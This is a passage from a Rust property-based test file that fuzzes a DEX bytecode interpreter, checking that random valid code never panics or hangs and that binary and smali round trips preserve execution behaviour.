        (reg(), reg()).prop_map({
            let field = field.clone();
            move |(src, obj)| Instruction::IPut {
                src,
                obj,
                field: field.clone(),
            }
        }),
        reg().prop_map({
            let field = field.clone();
            move |dst| Instruction::SGet {
                dst,
                field: field.clone(),
            }
        }),
        (cmp(), reg(), 0..max_target).prop_map(|(cmp, reg, target)| Instruction::IfZero {
            cmp,
            reg,
            target
        }),
        (cmp(), reg(), reg(), 0..max_target)
            .prop_map(|(cmp, a, b, target)| { Instruction::IfCmp { cmp, a, b, target } }),
        (0..max_target).prop_map(|target| Instruction::Goto { target }),
        (binop(), reg(), reg(), reg()).prop_map(|(op, dst, a, b)| Instruction::BinOp {
            op,
            dst,
            a,
            b
        }),
        Just(Instruction::ReturnVoid),
        reg().prop_map(|reg| Instruction::Return { reg }),
        reg().prop_map(|reg| Instruction::Throw { reg }),
        (reg(), Just("fuzz.App".to_string()))
            .prop_map(|(reg, class)| Instruction::CheckCast { reg, class }),
    ]
}

fn fuzz_dex(code: Vec<Instruction>) -> DexFile {
    let mut dex = DexFile::new();
    let mut class = ClassDef::new("fuzz.App", "java.lang.Object");
    class.methods.push(Method {
        name: "entry".to_string(),
        sig: MethodSig::parse("()V").expect("valid"),
        flags: AccessFlags::PUBLIC | AccessFlags::STATIC,
        registers: REGS,
        code,
    });
    class.methods.push(Method {
        name: "helper".to_string(),
        sig: MethodSig::parse("(I)I").expect("valid"),
        flags: AccessFlags::PUBLIC | AccessFlags::STATIC,
        registers: REGS,
        code: vec![
            Instruction::Const { dst: 1, value: 2 },
            Instruction::BinOp {
                op: BinOp::Add,
                dst: 0,
                a: 0,
                b: 1,
            },
            Instruction::Return { reg: 0 },
        ],
    });
    dex.add_class(class);
    dex
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Arbitrary valid code never panics the interpreter and always
    /// terminates within the fuel budget.
    #[test]
    fn interpreter_is_total(raw in prop::collection::vec(instruction(40), 1..40)) {
        // Clamp branch targets into range so the bytecode is valid.
        let len = raw.len() as u32;
        let code: Vec<Instruction> = raw
            .into_iter()
            .map(|mut insn| {
                if let Some(t) = insn.branch_target() {
                    insn.set_branch_target(t % len);
                }
                insn
            })
            .collect();
        let dex = fuzz_dex(code);
        prop_assert!(dex.validate().is_ok());

        let mut device = Device::new(DeviceConfig::default());
        let mut process = Process::new("fuzz.app".to_string(), dex, &Manifest::new("fuzz.app"));
        // Must return (Ok or recorded crash), never hang or panic.
        let _completed = process.run_entry(&mut device, "fuzz.App", "entry");
        // The device stays usable afterwards.
        prop_assert!(device.fs.file_count() < 100);
        let _ = device.log.events();
    }

    /// Round-tripping fuzzed code through the binary format and the smali
    /// IR preserves execution outcome.
    #[test]
    fn encoding_round_trip_preserves_behavior(raw in prop::collection::vec(instruction(20), 1..20)) {
        let len = raw.len() as u32;
        let code: Vec<Instruction> = raw
            .into_iter()
            .map(|mut insn| {
                if let Some(t) = insn.branch_target() {
                    insn.set_branch_target(t % len);
                }
                insn
            })
            .collect();
        let dex = fuzz_dex(code);

        let run = |dex: DexFile| {
            let mut device = Device::new(DeviceConfig::default());
            let mut process = Process::new("fuzz.app".to_string(), dex, &Manifest::new("fuzz.app"));
            let ok = process.run_entry(&mut device, "fuzz.App", "entry");
            (ok, device.log.len())
        };

        let binary = DexFile::parse(&dex.to_bytes()).expect("round trip");
        let smali = dydroid_dex::smali::assemble(&dydroid_dex::smali::disassemble(&dex))
            .expect("smali round trip");
        let base = run(dex);
        prop_assert_eq!(run(binary), base);
        prop_assert_eq!(run(smali), base);
    }
}
